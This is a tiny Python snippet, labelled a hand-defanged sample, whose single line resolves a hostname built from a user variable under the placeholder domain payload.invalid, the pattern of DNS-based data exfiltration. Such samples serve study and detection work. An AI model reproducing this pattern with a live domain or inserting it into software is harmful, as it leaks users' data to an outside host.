# Defanged sample: nothing here is reached or run; defanged by hand.
import socket
socket.gethostbyname(f'{user}.payload.invalid')
